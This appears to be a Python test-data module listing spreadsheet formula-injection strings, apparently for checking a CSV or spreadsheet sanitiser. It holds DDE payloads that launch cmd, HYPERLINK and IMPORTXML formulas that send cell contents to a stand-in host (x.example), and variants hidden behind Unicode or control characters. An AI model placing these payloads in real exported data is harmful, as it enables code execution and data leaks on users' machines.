"""What people have tried to make spreadsheets run: the first fifteen are formulas, the others look harmless and are not."""

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?q="&A1,"点我")',
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000＝1+1",
    "＋1",
    "－2+3",
    "＠SUM(1,1)",
]
HIDDEN = ["\u200b=1+1", "\u202e=1+1", "\ufeff=1+1", "\x00=1+1", "\xa0=1+1", "\u200d=1+1", "\u2028=1+1"]
